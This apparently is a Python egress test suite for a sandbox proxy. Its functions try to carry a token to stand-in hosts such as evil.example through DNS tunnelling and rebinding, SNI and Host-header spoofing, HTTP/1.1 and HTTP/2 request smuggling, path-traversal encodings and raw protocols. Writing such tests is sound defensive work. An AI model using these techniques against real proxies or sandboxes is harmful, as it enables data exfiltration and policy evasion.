"""Ways out of a sandbox, run inside by root: attacks.py NAME TOKEN.

Each function tries to bring the token to somebody whom the policy does not
name, or to learn something from there. It returns true when it can tell that it
got through; the witness outside looks for the token as well. Being refused is an
exception or a false result.
"""
import os, random, select, signal, socket, ssl, struct, sys, threading, time

# FAMILY=6 tries the same over IPv6.
SIX = os.environ.get("FAMILY") == "6"
FAMILY = socket.AF_INET6 if SIX else socket.AF_INET


def place(four, six): return six if SIX else four
def family(host): return socket.AF_INET6 if ":" in host else socket.AF_INET


def gateway():
    if SIX:
        if "GATEWAY6" in os.environ:  # gVisor shows no routes of IPv6
            return os.environ["GATEWAY6"]
        routes = (l.split() for l in open("/proc/net/ipv6_route"))
        return socket.inet_ntop(socket.AF_INET6, bytes.fromhex(next(
            f[4] for f in routes if f[1] == "00" and f[9] == "eth0")))
    routes = (l.split() for l in open("/proc/net/route").read().splitlines()[1:])
    return socket.inet_ntoa(struct.pack("<L", int(next(f[2] for f in routes if f[1] == "00000000"), 16)))


ALLOWED, EVIL, RULED = "allowed.example", "evil.example", "ruled.example"
EVIL_IP, ALLOWED_IP = place("203.0.113.66", "2001:db8:113::66"), place("203.0.113.10", "2001:db8:113::10")
UNASKED, NEIGHBOUR = place("203.0.113.11", "2001:db8:113::11"), place("203.0.113.12", "2001:db8:113::12")
HOST_IP = place("203.0.113.1", "2001:db8:1::1")
PRIVATE, METADATA = place("10.99.0.1", "fd99::1"), place("169.254.169.254", "fd00:ec2::254")
OTHER = os.environ.get("OTHER" + place("", "6"), "10.213.0.77")
GATEWAY = gateway()
RESOLVER = next(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver"))
TOKEN = sys.argv[2] if len(sys.argv) > 2 else "token"
T = 1.5


def tcp(host, port, data, read=True):
    with socket.create_connection((host, port), T) as s:
        s.settimeout(T)
        s.sendall(data)
        return s.recv(65536) if read else b""


def udp(host, port, data, read=True):
    with socket.socket(family(host), socket.SOCK_DGRAM) as s:
        s.settimeout(T)
        s.connect((host, port))
        s.send(data)
        return s.recv(65536) if read else b""


def lookup(name):
    return socket.getaddrinfo(name, None, FAMILY)[0][4][0]


def http(host, path=None, method="GET", extra="", version="HTTP/1.1"):
    return (f"{method} {path or '/' + TOKEN} {version}\r\nHost: {host}\r\n{extra}\r\n").encode()


def ok(answer):
    """A server of ours answered, not the proxy."""
    return b"welcome" in answer or b"HTTP/1.1 2" in answer


def at_allowed(data, port=80):
    return ok(tcp(lookup(ALLOWED), port, data))


def question(name, qtype, tcp_frame=False):
    q = struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", qtype, 1)
    return struct.pack(">H", len(q)) + q if tcp_frame else q


def ask(name, qtype=1, server=RESOLVER, port=53):
    """Returns the code and the number of answers."""
    a = udp(server, port, question(name, qtype))
    return a[3] & 15, struct.unpack(">H", a[6:8])[0]


def hello(names, record=16384, encrypted=False):
    """A TLS 1.2 client hello with these server names, cut into records."""
    ext = b""
    if names is not None:
        entries = b"".join(b"\0" + struct.pack(">H", len(n)) + n.encode() for n in names)
        sni = struct.pack(">H", len(entries)) + entries
        ext += struct.pack(">HH", 0, len(sni)) + sni
    ext += struct.pack(">HH", 0xff01, 1) + b"\0"
    ext += bytes.fromhex("000a000600040017001d" "000b00020100" "000d00040002" "0403")
    if encrypted:
        ext += struct.pack(">HH", 0xfe0d, 40) + b"\0" * 40
    body = b"\3\3" + os.urandom(32) + b"\0" + struct.pack(">H", 4) + b"\xc0\x2b\xc0\x2f" + b"\1\0" + struct.pack(">H", len(ext)) + ext
    msg = b"\1" + struct.pack(">I", len(body))[1:] + body
    return b"".join(b"\x16\3\1" + struct.pack(">H", len(msg[i:i + record])) + msg[i:i + record] for i in range(0, len(msg), record))


def tls(ip, names, port=443, step=None, **kw):
    data = hello(names, **kw)
    with socket.create_connection((ip, port), T) as s:
        s.settimeout(T)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for i in range(0, len(data), step or len(data)):
            s.sendall(data[i:i + (step or len(data))])
        return s.recv(1024)[:1] == b"\x16"  # a server hello, not an alert


def denied_name():
    return TOKEN + "." + EVIL


# addresses

def ip_tcp(): return ok(tcp(EVIL_IP, 80, http(EVIL)))
def ip_tcp_other_port(): return TOKEN.encode() in tcp(EVIL_IP, 7000, TOKEN.encode())
def ip_udp(): return TOKEN.encode() in udp(EVIL_IP, 7001, TOKEN.encode())
def ip_mapped():
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
        s.settimeout(T)
        s.connect(("::ffff:" + EVIL_IP, 80))
        s.sendall(http(EVIL))
        return ok(s.recv(4096))
def ip_of_allowed_unasked():
    """The allowed server's address, before its name was looked up."""
    return ok(tcp(UNASKED, 80, http(ALLOWED)))
def ip_neighbour_of_allowed():
    lookup(ALLOWED)
    return ok(tcp(NEIGHBOUR, 80, http(ALLOWED)))

# resolvers and names

def dns_other_udp(): return ask(denied_name(), server=EVIL_IP)[1] > 0
def dns_other_tcp(): return len(tcp(EVIL_IP, 53, question(denied_name(), 1, True))) > 12
def dns_other_port(): return ask(denied_name(), server=EVIL_IP, port=5353)[1] > 0
def dns_over_tls(): return bool(tcp(EVIL_IP, 853, hello([denied_name()])))
def dns_over_https(): return tls(EVIL_IP, [denied_name()])
def dns_over_quic(): return bool(udp(EVIL_IP, 853, TOKEN.encode()))
def dns_allowed_server_as_resolver(): return ask(denied_name(), server=lookup(ALLOWED))[1] > 0
def dns_allowed_server_tcp(): return len(tcp(lookup(ALLOWED), 53, question(denied_name(), 1, True))) > 12
def dns_allowed_server_tls(): return tls(lookup(ALLOWED), [ALLOWED], port=853)
def dns_tunnel_label(): return ask(denied_name())[1] > 0
def dns_tunnel_txt(): return ask(denied_name(), 16)[1] > 0
def dns_tunnel_tcp(): return struct.unpack(">H", tcp(RESOLVER, 53, question(denied_name(), 1, True))[8:10])[0] > 0
def dns_tunnel_null(): return ask(TOKEN + ".wild.example", 10)[1] > 0
def dns_any(): return ask(TOKEN + ".wild.example", 255)[1] > 0
def dns_axfr(): return ask(TOKEN + ".wild.example", 252)[1] > 0
def dns_private_type(): return ask(TOKEN + ".wild.example", 65399)[1] > 0
def dns_service_binding(): return ask("bound.wild.example", 65)[1] > 0
def dns_many_labels(): return ask(".".join("abcdefgh") + "." + TOKEN + ".wild.example")[1] > 0
def dns_long_name(): return ask(".".join([TOKEN.ljust(60, "x")] * 3) + ".wild.example")[1] > 0
def dns_many_names():
    """More names than the budget under a wildcard."""
    got = 0
    for i in range(250):
        got += ask(f"n{i}.wild.example")[1] > 0
    return got > 150
def dns_suffix_trick(): return ask(TOKEN + "." + ALLOWED + "." + EVIL)[1] > 0
def dns_lookalike(): return ask(TOKEN + "not" + ALLOWED)[1] > 0
def dns_beneath_exact(): return ask(TOKEN + "." + ALLOWED)[1] > 0
def dns_reverse(): return ask("66.113.0.203.in-addr.arpa", 12)[1] > 0
def dns_chaos():
    q = bytearray(question("version.bind", 16))
    q[-1] = 3
    a = udp(RESOLVER, 53, bytes(q))
    return struct.unpack(">H", a[6:8])[0] > 0
def dns_two_questions():
    a, b = question(ALLOWED, 1), question(denied_name(), 1)
    both = bytearray(a + b[12:])
    both[5] = 2
    r = udp(RESOLVER, 53, bytes(both))
    return struct.unpack(">H", r[6:8])[0] > 0
def dns_alias_to_allowed(): return ask("to-allowed.example")[1] > 0

def rebind(name): return ok(tcp(lookup(name + ".wild.example"), 80, http(name + ".wild.example")))
def rebind_private(): return rebind("private")
def rebind_metadata(): return rebind("metadata")
def rebind_loopback_gateway():
    lookup("gateway.wild.example")
    return bool(tcp(GATEWAY, 8080, http("gateway.wild.example")))
def rebind_host(): return rebind("host")
def rebind_mapped(): return ask("mapped.wild.example", 28)[1] > 0
def rebind_nat64(): return ask("nat64.wild.example", 28)[1] > 0
def rebind_by_alias(): return rebind("alias-private")

# names that are claimed

def sni_allowed_at_evil(): return tls(EVIL_IP, [ALLOWED])
def sni_evil_at_allowed(): return tls(lookup(ALLOWED), [denied_name()])
def sni_missing(): return tls(lookup(ALLOWED), None)
def sni_one_byte_segments(): return tls(lookup(ALLOWED), [denied_name()], step=1)
def sni_small_records(): return tls(lookup(ALLOWED), [denied_name()], record=7)
def sni_two_names(): return tls(lookup(ALLOWED), [ALLOWED, denied_name()])
def sni_upper_suffix(): return tls(lookup(ALLOWED), [denied_name().upper() + "."])
def sni_nul(): return tls(lookup(ALLOWED), [ALLOWED + "\0." + denied_name()])
def sni_space(): return tls(lookup(ALLOWED), [ALLOWED + " " + denied_name()])
def sni_empty(): return tls(lookup(ALLOWED), [""])
def sni_address(): return tls(lookup(ALLOWED), [place(EVIL_IP, f"[{EVIL_IP}]")])
def hello_raw(data):
    """What begins like TLS and is something else, with the token behind it."""
    return bool(tcp(lookup(ALLOWED), 8443, data + TOKEN.encode())) and False
def hello_empty_record(): return hello_raw(b"\x16\3\1\0\0")
def hello_long_record(): return hello_raw(b"\x16\3\1\xff\xff")
def hello_other_message(): return hello_raw(b"\x16\3\1\0\4\2\0\0\0")
def hello_long_message(): return hello_raw(b"\x16\3\1\0\4\1\xff\xff\xff")
def hello_other_record(): return hello_raw(hello([ALLOWED], record=7)[:12] + b"\x17\3\3\0\1\0")
def sni_encrypted_hello(): return tls(lookup(ALLOWED), [denied_name()], encrypted=True)
def sni_other_port(): return tls(lookup(ALLOWED), [denied_name()], port=8443)
def sni_other_allowed_name():
    """An allowed name with the address of another."""
    lookup("other.wild.example")
    return tls(lookup(ALLOWED), ["other.wild.example"])
def opaque_on_443(): return TOKEN.encode() in tcp(lookup(ALLOWED), 443, b"\0" + TOKEN.encode())
def opaque_on_80(): return TOKEN.encode() in tcp(lookup(ALLOWED), 80, b"\0" + TOKEN.encode())

def host_evil(): return at_allowed(http(EVIL))
def host_evil_other_port(): return at_allowed(http(EVIL), 8080)
def host_missing(): return at_allowed(f"GET /{TOKEN} HTTP/1.0\r\n\r\n".encode())
def host_http09(): return bool(at_allowed(f"GET /{TOKEN}\r\n".encode()))
def host_two(): return at_allowed(http(ALLOWED, extra=f"Host: {EVIL}\r\n"))
def host_two_reversed(): return at_allowed(http(EVIL, extra=f"Host: {ALLOWED}\r\n"))
def host_absolute_target(): return at_allowed(http(ALLOWED, f"http://{EVIL}/{TOKEN}"))
def host_absolute_upper(): return at_allowed(http(ALLOWED, f"HTTP://{EVIL}/{TOKEN}"))
def host_userinfo(): return at_allowed(http(f"{ALLOWED}@{EVIL}"))
def host_bare_lf(): return at_allowed(http(ALLOWED, extra=f"X: y\nHost: {EVIL}\r\n"))
def host_folded(): return at_allowed(http(ALLOWED, extra=f"X: y\r\n Host: {EVIL}\r\n"))
def host_space_before_colon(): return at_allowed(http(ALLOWED, extra=f"Host : {EVIL}\r\n"))
def host_leading_lines(): return at_allowed(b"\r\n\r\n" + http(EVIL))
def host_leading_space(): return at_allowed(b" " + http(EVIL))
def host_odd_method(): return at_allowed(http(EVIL, method="BREW"))
def host_lower_version(): return at_allowed(http(EVIL, version="http/1.1"), 8080)
def host_other_port(): return at_allowed(http(ALLOWED + ":22"))
def host_ip(): return at_allowed(http(place(EVIL_IP, f"[{EVIL_IP}]")))
def host_leading_line_feeds(): return at_allowed(b"\n\n" + http(EVIL))
def host_all_line_feeds(): return at_allowed(http(EVIL).replace(b"\r\n", b"\n"))
def host_bare_cr(): return at_allowed(http(ALLOWED, extra=f"X: y\rHost: {EVIL}\r\n"))
def host_nul(): return at_allowed(http(ALLOWED, extra=f"X: y\0\r\nX: {TOKEN}\r\n"))
def host_value_folded(): return at_allowed(http(f"\r\n {EVIL}"))
def host_list(): return at_allowed(http(f"{ALLOWED}, {EVIL}"))
def host_port_zero(): return at_allowed(http(ALLOWED + ":0"))
def host_port_signed(): return at_allowed(http(ALLOWED + ":+80"))
def host_two_spaces(): return at_allowed(http(ALLOWED, f" /{TOKEN}"))
def host_odd_version(): return at_allowed(http(ALLOWED, version="HTTP/1.2"))
def host_high_byte(): return at_allowed(http(ALLOWED, f"/\x80{TOKEN}"))
def host_absolute_tls(): return at_allowed(http(ALLOWED, f"https://{ALLOWED}/{TOKEN}"))
def host_empty_name(): return at_allowed(http(ALLOWED, extra=f": {EVIL}{TOKEN}\r\n"))
def host_no_colon(): return at_allowed(http(ALLOWED, extra=f"{TOKEN}\r\n"))
def connect_relay(): return at_allowed(http(EVIL + ":443", f"{EVIL}:443", "CONNECT"))
def connect_relay_allowed_host(): return at_allowed(http(ALLOWED, f"{EVIL}:443", "CONNECT"))

def second(first, follow=None):
    """A second request, after an allowed one, on the same connection."""
    with socket.create_connection((lookup(ALLOWED), 80), T) as s:
        s.settimeout(T)
        def answer():
            got = b""
            while b"welcome" not in got and b"DENIED" not in got:
                more = s.recv(65536)
                if not more:
                    break
                got += more
            return b"welcome" in got
        s.sendall(first)
        if not answer():
            return False
        s.sendall(follow or http(EVIL))
        return answer()
def keepalive_second_host(): return second(http(ALLOWED, "/first"))
def pipelined_second_host(): return at_allowed(http(ALLOWED, "/first") + http(EVIL)) and False
def upgrade_then_host(): return second(http(ALLOWED, "/first", extra="Connection: Upgrade\r\nUpgrade: websocket\r\n"))
def upgrade_h2c(): return b"101" in tcp(lookup(ALLOWED), 80, http(ALLOWED, "/first", extra="Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n"))
def smuggle(extra, body): return at_allowed(http(ALLOWED, "/first", "POST", extra) + body) and False
def smuggle_both_lengths(): return smuggle("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n" + http(EVIL))
def smuggle_two_lengths(): return smuggle(f"Content-Length: 0\r\nContent-Length: {len(http(EVIL))}\r\n", http(EVIL))
def smuggle_list_of_lengths(): return smuggle("Content-Length: 0, 5\r\n", http(EVIL))
def smuggle_signed_length(): return smuggle("Content-Length: +0\r\n", http(EVIL))
def smuggle_odd_encoding(): return smuggle("Transfer-Encoding: xchunked\r\n", http(EVIL))
def smuggle_encoding_tab(): return smuggle("Transfer-Encoding:\x0bchunked\r\nContent-Length: 0\r\n", http(EVIL))
def smuggle_bad_chunk(): return smuggle("Transfer-Encoding: chunked\r\n", b"0x0\r\n\r\n" + http(EVIL))
def smuggle_chunk_end(): return smuggle("Transfer-Encoding: chunked\r\n", b"1\r\nZZZ\r\n0\r\n\r\n" + http(EVIL))
def smuggle_same_lengths(): return smuggle("Content-Length: 0\r\nContent-Length: 0\r\n", http(EVIL))
def smuggle_no_length(): return smuggle("Content-Length:\r\n", http(EVIL))
def smuggle_minus_length(): return smuggle("Content-Length: -1\r\n", http(EVIL))
def smuggle_two_encodings(): return smuggle("Transfer-Encoding: gzip, chunked\r\n", b"0\r\n\r\n" + http(EVIL))
def smuggle_folded_encoding(): return smuggle("Content-Length: 5\r\nTransfer-Encoding:\r\n chunked\r\n", b"0\r\n\r\n" + http(EVIL))
def smuggle_old_version():
    return at_allowed(http(ALLOWED, "/first", "POST", "Transfer-Encoding: chunked\r\n", "HTTP/1.0") + b"0\r\n\r\n" + http(EVIL)) and False
def smuggle_minus_chunk(): return smuggle("Transfer-Encoding: chunked\r\n", b"-1\r\n" + http(EVIL))
def smuggle_huge_chunk(): return smuggle("Transfer-Encoding: chunked\r\n", b"fffffffffffffffff\r\n" + http(EVIL))
def smuggle_chunk_line_feed(): return smuggle("Transfer-Encoding: chunked\r\n", b"0\n\n" + http(EVIL))
def smuggle_chunk_cr(): return smuggle("Transfer-Encoding: chunked\r\n", b"0\r\r" + http(EVIL))
def smuggle_chunk_extension(): return smuggle("Transfer-Encoding: chunked\r\n", b"0;x\n\r\n" + http(EVIL))
def smuggle_bad_trailer(): return smuggle("Transfer-Encoding: chunked\r\n", b"0\r\nA " + TOKEN.encode() + b"\r\n\r\n")
def smuggle_trailer_line_feed(): return smuggle("Transfer-Encoding: chunked\r\n", b"0\r\nA: b\n" + TOKEN.encode() + b": c\r\n\r\n")
def smuggle_after_body(): return smuggle("Content-Length: 0\r\n", http(EVIL))
def http2_prior_knowledge():
    block = b"\x82\x86" + b"\x04" + bytes([len(TOKEN) + 1]) + b"/" + TOKEN.encode() + b"\x01" + bytes([len(EVIL)]) + EVIL.encode()
    frames = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0" + struct.pack(">I", len(block))[1:] + b"\1\5\0\0\0\1" + block
    return b"welcome" in tcp(lookup(ALLOWED), 8080, frames)

# requests inside TLS, to a host whose rule lets GET and PUT beneath /ok/ pass

def inside(data):
    c = ssl.create_default_context()
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    c.set_alpn_protocols(["http/1.1"])
    got = b""
    with socket.create_connection((lookup(RULED), 9443), T) as raw, c.wrap_socket(raw, server_hostname=RULED) as s:
        s.settimeout(T)
        s.sendall(data)
        try:
            while more := s.recv(65536):
                got += more
                if b"POLICY" in got or b" 400 " in got or b" 421 " in got:
                    break
                s.settimeout(0.25)
        except TimeoutError:
            pass
    return got


def ruled(path="/ok/a", method="GET", extra="", host=RULED, version="HTTP/1.1", body=b"", before=b""):
    """What gets through is for the witness to see."""
    inside(before + http(host, path, method, extra, version) + body)
    return False


FORBIDDEN = f"POST /{TOKEN} HTTP/1.1\r\nHost: {RULED}\r\n\r\n".encode()
CHUNKED = "Transfer-Encoding: chunked\r\n"


def rule_method(): return ruled("/ok/" + TOKEN, "POST")
def rule_method_lower(): return ruled("/ok/" + TOKEN, "get")
def rule_path(): return ruled("/" + TOKEN)
def rule_path_dots(): return ruled("/ok/../" + TOKEN)
def rule_path_encoded_dots(): return ruled("/ok/%2e%2e/" + TOKEN)
def rule_path_encoded_slash(): return ruled("/ok/..%2f" + TOKEN)
def rule_path_encoded_twice(): return ruled("/ok/%252e%252e/" + TOKEN)
def rule_path_backslash(): return ruled("/ok/..\\" + TOKEN)
def rule_path_parameter(): return ruled("/ok/..;/" + TOKEN)
def rule_path_empty_segment(): return ruled("/ok//../" + TOKEN)
def rule_path_nul(): return ruled("/ok/%00/../" + TOKEN)
def rule_path_bad_escape(): return ruled("/ok/%zz" + TOKEN)
def rule_path_upper(): return ruled("/OK/" + TOKEN)
def rule_path_in_query(): return ruled(f"/?/ok/{TOKEN}")
def rule_path_in_fragment(): return ruled(f"/{TOKEN}#/ok/")
def rule_path_relative(): return ruled("ok/" + TOKEN)
def rule_absolute(): return ruled(f"https://{RULED}:9443/{TOKEN}")
def rule_absolute_clear(): return ruled(f"http://{RULED}:9443/ok/{TOKEN}")
def rule_absolute_evil(): return ruled(f"https://{EVIL}/ok/{TOKEN}")
def rule_host_evil(): return ruled("/ok/" + TOKEN, host=EVIL)
def rule_host_other_port(): return ruled("/ok/" + TOKEN, host=RULED + ":1")
def rule_host_ip(): return ruled("/ok/" + TOKEN, host=EVIL_IP)
def rule_host_userinfo(): return ruled("/ok/" + TOKEN, host=f"{RULED}@{EVIL}")
def rule_host_missing(): return inside(f"GET /ok/{TOKEN} HTTP/1.1\r\n\r\n".encode()) and False
def rule_host_two(): return ruled("/ok/" + TOKEN, extra=f"Host: {EVIL}\r\n")
def rule_host_bare_lf(): return ruled("/ok/" + TOKEN, extra=f"X: y\nHost: {EVIL}\r\n")
def rule_host_bare_cr(): return ruled("/ok/" + TOKEN, extra=f"X: y\rHost: {EVIL}\r\n")
def rule_host_folded(): return ruled("/ok/" + TOKEN, extra=f"X: y\r\n Host: {EVIL}\r\n")
def rule_host_value_folded(): return ruled("/ok/" + TOKEN, host=f"\r\n {RULED}")
def rule_host_space(): return inside(f"GET /ok/{TOKEN} HTTP/1.1\r\nHost : {RULED}\r\n\r\n".encode()) and False
def rule_control_character(): return ruled("/ok/" + TOKEN, extra="X: a\x01b\r\n")
def rule_leading_lines(): return ruled("/ok/" + TOKEN, before=b"\r\n\r\n")
def rule_leading_line_feed(): return ruled("/ok/" + TOKEN, before=b"\n")
def rule_leading_space(): return ruled("/ok/" + TOKEN, before=b" ")
def rule_line_feeds(): return inside(http(RULED, "/ok/" + TOKEN).replace(b"\r\n", b"\n")) and False
def rule_two_spaces(): return ruled(" /ok/" + TOKEN)
def rule_odd_version(): return ruled("/ok/" + TOKEN, version="HTTP/1.2")
def rule_no_version(): return inside(f"GET /ok/{TOKEN}\r\n\r\n".encode()) and False
def rule_asterisk(): return ruled("*", extra=f"X: {TOKEN}\r\n")
def rule_long_head(): return ruled("/ok/" + TOKEN, extra="X: " + "x" * 140000 + "\r\n")
def rule_connect(): return ruled(f"{EVIL}:443", "CONNECT", f"X: {TOKEN}\r\n")
def rule_pipelined(): return ruled(body=FORBIDDEN)
def rule_upgrade_then(): return ruled(extra="Connection: Upgrade\r\nUpgrade: websocket\r\n", body=FORBIDDEN)
def rule_upgrade_h2c_then(): return ruled(extra="Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n", body=FORBIDDEN)
def rule_preface(): return inside(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + TOKEN.encode()) and False
def rule_no_http(): return inside(b"\0" + TOKEN.encode()) and False
def rule_both_lengths(): return ruled("/ok/a", "PUT", "Content-Length: 4\r\n" + CHUNKED, body=b"0\r\n\r\n" + FORBIDDEN)
def rule_two_lengths(): return ruled("/ok/a", "PUT", f"Content-Length: 0\r\nContent-Length: {len(FORBIDDEN)}\r\n", body=FORBIDDEN)
def rule_same_lengths(): return ruled("/ok/a", "PUT", "Content-Length: 0\r\n" * 2, body=FORBIDDEN)
def rule_list_of_lengths(): return ruled("/ok/a", "PUT", "Content-Length: 0, 5\r\n", body=FORBIDDEN)
def rule_signed_length(): return ruled("/ok/a", "PUT", "Content-Length: +0\r\n", body=FORBIDDEN)
def rule_minus_length(): return ruled("/ok/a", "PUT", "Content-Length: -1\r\n", body=FORBIDDEN)
def rule_no_length(): return ruled("/ok/a", "PUT", "Content-Length:\r\n", body=FORBIDDEN)
def rule_odd_encoding(): return ruled("/ok/a", "PUT", "Transfer-Encoding: xchunked\r\n", body=b"0\r\n\r\n" + FORBIDDEN)
def rule_two_encodings(): return ruled("/ok/a", "PUT", "Transfer-Encoding: gzip, chunked\r\n", body=b"0\r\n\r\n" + FORBIDDEN)
def rule_folded_encoding(): return ruled("/ok/a", "PUT", "Content-Length: 5\r\nTransfer-Encoding:\r\n chunked\r\n", body=b"0\r\n\r\n" + FORBIDDEN)
def rule_encoding_in_old(): return ruled("/ok/a", "PUT", CHUNKED, version="HTTP/1.0", body=b"0\r\n\r\n" + FORBIDDEN)
def rule_bad_chunk(): return ruled("/ok/a", "PUT", CHUNKED, body=b"0x0\r\n\r\n" + FORBIDDEN)
def rule_minus_chunk(): return ruled("/ok/a", "PUT", CHUNKED, body=b"-1\r\n" + FORBIDDEN)
def rule_huge_chunk(): return ruled("/ok/a", "PUT", CHUNKED, body=b"fffffffffffffffff\r\n" + FORBIDDEN)
def rule_chunk_end(): return ruled("/ok/a", "PUT", CHUNKED, body=b"1\r\nZZZ\r\n0\r\n\r\n" + FORBIDDEN)
def rule_chunk_line_feed(): return ruled("/ok/a", "PUT", CHUNKED, body=b"0\n\n" + FORBIDDEN)
def rule_chunk_cr(): return ruled("/ok/a", "PUT", CHUNKED, body=b"0\r\r" + FORBIDDEN)
def rule_trailer_length(): return ruled("/ok/a", "PUT", CHUNKED, body=f"0\r\nContent-Length: 5{TOKEN}\r\n\r\n".encode())
def rule_trailer_folded(): return ruled("/ok/a", "PUT", CHUNKED, body=f"0\r\nA: b\r\n {TOKEN}\r\n\r\n".encode())
def rule_trailer_line_feed(): return ruled("/ok/a", "PUT", CHUNKED, body=f"0\r\nA: b\n{TOKEN}: c\r\n\r\n".encode())
def rule_in_clear():
    """The same port without TLS."""
    return ok(tcp(lookup(RULED), 9443, http(RULED, "/" + TOKEN)))
def rule_not_http(): return TOKEN.encode() in tcp(lookup(RULED), 7000, b"\0" + TOKEN.encode())
def rule_udp(): return TOKEN.encode() in udp(lookup(RULED), 7001, TOKEN.encode())
def rule_encrypted_hello():
    return tls(lookup(RULED), [denied_name()], port=9443, encrypted=True)

# the same over HTTP/2

def h2_frame(kind, flags, stream, data): return struct.pack(">I", len(data))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + data
def h2_text(s): return struct.pack("B", len(s)) + s.encode("latin-1")
def h2_block(fields): return b"".join(b"\0" + h2_text(n) + h2_text(v) for n, v in fields)
def h2_head(stream, fields, flags=5): return h2_frame(1, flags, stream, h2_block(fields))
def h2_fields(path="/ok/a", method="GET", authority=RULED, scheme="https", more=()):
    pseudo = [(":method", method), (":scheme", scheme), (":path", path), (":authority", authority)]
    return [(n, v) for n, v in pseudo if v is not None] + list(more)


def h2(*frames):
    c = ssl.create_default_context()
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    c.set_alpn_protocols(["h2"])
    with socket.create_connection((lookup(RULED), 9444), T) as raw, c.wrap_socket(raw, server_hostname=RULED) as s:
        if s.selected_alpn_protocol() != "h2":
            raise OSError("HTTP/2 is not offered")
        s.settimeout(T)
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"") + b"".join(frames))
        # Once the server has seen a ping that comes last, it has seen the rest.
        s.sendall(h2_frame(6, 0, 0, b"12345678"))
        got, end = b"", time.time() + T
        try:
            while time.time() < end and (more := s.recv(65536)):
                got += more
                if h2_frame(6, 1, 0, b"12345678") in got:
                    s.settimeout(0.15)
        except TimeoutError:
            pass
    return False


def h2_method(): return h2(h2_head(1, h2_fields("/ok/" + TOKEN, "POST")))
def h2_path(): return h2(h2_head(1, h2_fields("/" + TOKEN)))
def h2_path_dots(): return h2(h2_head(1, h2_fields("/ok/../" + TOKEN)))
def h2_path_encoded_slash(): return h2(h2_head(1, h2_fields("/ok/..%2f" + TOKEN)))
def h2_path_parameter(): return h2(h2_head(1, h2_fields("/ok/..;/" + TOKEN)))
def h2_path_absolute(): return h2(h2_head(1, h2_fields(f"https://{EVIL}/ok/{TOKEN}")))
def h2_path_relative(): return h2(h2_head(1, h2_fields("ok/" + TOKEN)))
def h2_path_two(): return h2(h2_head(1, h2_fields(more=[(":path", "/" + TOKEN)])))
def h2_path_late(): return h2(h2_head(1, h2_fields(path=None, more=[("x", "y"), (":path", "/" + TOKEN)])))
def h2_authority_evil(): return h2(h2_head(1, h2_fields("/ok/" + TOKEN, authority=EVIL)))
def h2_authority_port(): return h2(h2_head(1, h2_fields("/ok/" + TOKEN, authority=RULED + ":1")))
def h2_authority_userinfo(): return h2(h2_head(1, h2_fields("/ok/" + TOKEN, authority=f"{RULED}@{EVIL}")))
def h2_host_evil(): return h2(h2_head(1, h2_fields("/ok/" + TOKEN, more=[("host", EVIL)])))
def h2_host_only(): return h2(h2_head(1, h2_fields("/ok/" + TOKEN, authority=None, more=[("host", EVIL)])))
def h2_host_none(): return h2(h2_head(1, h2_fields("/ok/" + TOKEN, authority=None)))
def h2_second_stream(): return h2(h2_head(1, h2_fields()), h2_head(3, h2_fields("/" + TOKEN)))
def h2_line_break(): return h2(h2_head(1, h2_fields(more=[("x", f"y\r\nHost: {EVIL}{TOKEN}")])))
def h2_line_break_in_path(): return h2(h2_head(1, h2_fields(f"/ok/a HTTP/1.1\r\nX: {TOKEN}")))
def h2_line_break_in_method(): return h2(h2_head(1, h2_fields(method=f"GET /{TOKEN} HTTP/1.1\r\nX:")))
def h2_upper_name(): return h2(h2_head(1, h2_fields(more=[("X-Upper", TOKEN)])))
def h2_encoding(): return h2(h2_head(1, h2_fields("/ok/a", "PUT", more=[("transfer-encoding", "chunked")]), 4), h2_frame(0, 1, 1, b"0\r\n\r\n" + FORBIDDEN))
def h2_connection(): return h2(h2_head(1, h2_fields("/ok/" + TOKEN, more=[("connection", "x")])))
def h2_short_length(): return h2(h2_head(1, h2_fields("/ok/a", "PUT", more=[("content-length", "0")]), 4), h2_frame(0, 1, 1, FORBIDDEN))
def h2_trailer_pseudo(): return h2(h2_head(1, h2_fields("/ok/a", "PUT"), 4), h2_head(1, [(":path", "/" + TOKEN)]))
def h2_connect(): return h2(h2_head(1, [(":method", "CONNECT"), (":authority", EVIL + ":443"), ("x", TOKEN)]))
def h2_connect_extended(): return h2(h2_head(1, h2_fields("/" + TOKEN, "CONNECT", more=[(":protocol", "websocket")])))
def h2_push(): return h2(h2_head(1, h2_fields(), 4), h2_frame(5, 4, 1, struct.pack(">I", 2) + h2_block(h2_fields("/" + TOKEN))))

# other protocols

def quic_allowed(): return TOKEN.encode() in udp(lookup(ALLOWED), 443, TOKEN.encode())
def quic_evil(): return TOKEN.encode() in udp(EVIL_IP, 443, TOKEN.encode())
def icmp_ping_socket():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.settimeout(T)
        s.sendto(struct.pack(">BBHHH", 8, 0, 0, 0, 1) + TOKEN.encode(), (EVIL_IP, 0))
        return TOKEN.encode() in s.recv(4096)
def raw(protocol, data, dst=EVIL_IP):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as s:
        s.sendto(data, (dst, 0))
    return False
def icmp_raw(): return raw(1, struct.pack(">BBHHH", 8, 0, 0, 0, 1) + TOKEN.encode())
def ip_in_ip(): return raw(4, b"\x45" + b"\0" * 19 + TOKEN.encode())
def gre(): return raw(47, b"\0" * 4 + TOKEN.encode())
def esp(): return raw(50, TOKEN.encode())
def sctp():
    with socket.socket(FAMILY, socket.SOCK_STREAM, 132) as s:
        s.settimeout(T)
        s.connect((EVIL_IP, 7000))
        return True
def udplite():
